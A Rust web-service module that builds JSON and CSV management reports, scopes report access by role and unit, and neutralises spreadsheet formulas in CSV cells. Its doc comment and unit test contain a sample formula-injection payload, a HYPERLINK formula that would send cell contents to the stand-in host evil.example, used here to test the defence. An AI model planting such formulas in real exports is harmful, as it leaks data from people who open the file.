//! Management reports: progress between assessment rounds, the PDCA pipeline, and charts.
//! Shared here: who may see which scope, and JSON/CSV negotiation.

pub mod charts;
pub mod pipeline;
pub mod progress;

use actix_web::http::header;
use actix_web::{HttpRequest, HttpResponse};
use serde::Deserialize;
use utoipa::{IntoParams, ToSchema};

use crate::auth::AuthUser;
use crate::db::{self, DbPool};
use crate::domain::roles::Role;
use crate::error::ApiError;
use crate::store::units;

/// Output format of a report.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Json,
    Csv,
}

/// Field separator of CSV output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Delimiter {
    /// `,` with a decimal point (RFC 4180).
    #[default]
    Comma,
    /// `;` with a decimal comma, as spreadsheet software set to German expects.
    Semicolon,
}

#[derive(Debug, Clone, Default, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct FormatParams {
    /// `json` (default) or `csv`; `Accept: text/csv` asks for CSV as well.
    pub format: Option<Format>,
    /// CSV only: `comma` (default) or `semicolon` (with decimal commas).
    pub delimiter: Option<Delimiter>,
}

/// CSV when `?format=csv`, or when `Accept` names `text/csv` and no `format` is given.
pub fn wants_csv(req: &HttpRequest, params: &FormatParams) -> bool {
    match params.format {
        Some(f) => f == Format::Csv,
        None => req
            .headers()
            .get(header::ACCEPT)
            .and_then(|v| v.to_str().ok())
            .is_some_and(|accept| accept.split(',').any(|part| part.trim().starts_with("text/csv"))),
    }
}

/// A CSV table being written: UTF-8 with a byte order mark, so spreadsheet software
/// recognises the encoding and umlauts stay intact.
pub struct Csv {
    writer: csv::Writer<Vec<u8>>,
    decimal_comma: bool,
}

impl Csv {
    pub fn new(delimiter: Delimiter, header: &[&str]) -> Result<Self, ApiError> {
        let mut out = Vec::new();
        out.extend_from_slice("\u{feff}".as_bytes());
        let writer = csv::WriterBuilder::new()
            .delimiter(match delimiter {
                Delimiter::Comma => b',',
                Delimiter::Semicolon => b';',
            })
            .from_writer(out);
        let mut me = Self {
            writer,
            decimal_comma: delimiter == Delimiter::Semicolon,
        };
        me.row(header.iter().map(|h| (*h).to_owned()))?;
        Ok(me)
    }

    /// A number as the chosen convention writes it; empty for `None`.
    pub fn num(&self, v: Option<f64>) -> String {
        match v {
            None => String::new(),
            Some(v) if !v.is_finite() => String::new(),
            Some(v) => {
                let s = format!("{v}");
                if self.decimal_comma { s.replace('.', ",") } else { s }
            }
        }
    }

    pub fn int(v: Option<i64>) -> String {
        v.map(|v| v.to_string()).unwrap_or_default()
    }

    /// Writes one row; every cell passes `defuse` first.
    pub fn row(&mut self, cells: impl IntoIterator<Item = String>) -> Result<(), ApiError> {
        self.writer
            .write_record(cells.into_iter().map(defuse).collect::<Vec<_>>())
            .map_err(ApiError::internal)
    }

    pub fn into_response(self, filename: &str) -> Result<HttpResponse, ApiError> {
        let bytes = self.writer.into_inner().map_err(ApiError::internal)?;
        Ok(HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .insert_header((
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ))
            .body(bytes))
    }
}

/// A cell a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return) gets a leading apostrophe, so it is shown as the text it is: an
/// idea titled `=HYPERLINK("http://evil.example/?"&B2)` must not send the sheet's other
/// cells anywhere when the council opens the export. Plain numbers (`-0,34`) stay numbers.
pub fn defuse(cell: String) -> String {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.replace(',', ".").parse::<f64>().is_ok_and(f64::is_finite);
    if risky && !number { format!("'{cell}") } else { cell }
}

/// Waits for `wanted` free report slots, or all there are (see `AppState::report_slots`).
pub async fn report_slot(
    state: &crate::state::AppState,
    wanted: u32,
) -> Result<tokio::sync::SemaphorePermit<'_>, ApiError> {
    state
        .report_slots
        .acquire(wanted)
        .await
        .map_err(|_| ApiError::Unavailable("the service is shutting down".into()))
}

/// The unit a report covers, after the role check: managers and admins may ask for the
/// whole organisation (`None`) or any unit; leads for their own unit or one below it
/// (their own unit when none is named). Employees see no reports.
pub async fn report_scope(pool: &DbPool, caller: &AuthUser, unit: Option<String>) -> Result<Option<String>, ApiError> {
    caller.require(Role::Lead)?;
    let unit = unit.filter(|u| !u.trim().is_empty());
    let is_manager = caller.is(Role::Manager);
    if is_manager && unit.is_none() {
        return Ok(None);
    }
    let own = caller.unit_id.clone();
    if !is_manager && own.is_none() {
        return Err(ApiError::forbidden(
            "reports for leads cover their unit, and you belong to none",
        ));
    }
    let requested = unit.or(own.clone());
    let org = caller.org_id.clone();
    db::run(pool, move |conn| {
        let Some(requested) = requested else {
            return Ok(None);
        };
        units::require_in_org(conn, &org, &requested, "unit")?;
        if !is_manager {
            let tree = units::tree(conn, &org)?;
            let mine = own.as_deref().unwrap_or_default();
            if !tree.is_within(&requested, mine) {
                return Err(ApiError::forbidden(
                    "leads see reports for their own unit and the units below it",
                ));
            }
        }
        Ok(Some(requested))
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_numbers_are_not() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Details\")",
            "+SUM(A1:A9)",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-inf",
        ] {
            assert_eq!(defuse(formula.to_owned()), format!("'{formula}"));
        }
        for plain in ["-0.34", "-0,34", "+1", "Bürgeramt", "", "3,4557"] {
            assert_eq!(defuse(plain.to_owned()), plain);
        }
    }
}
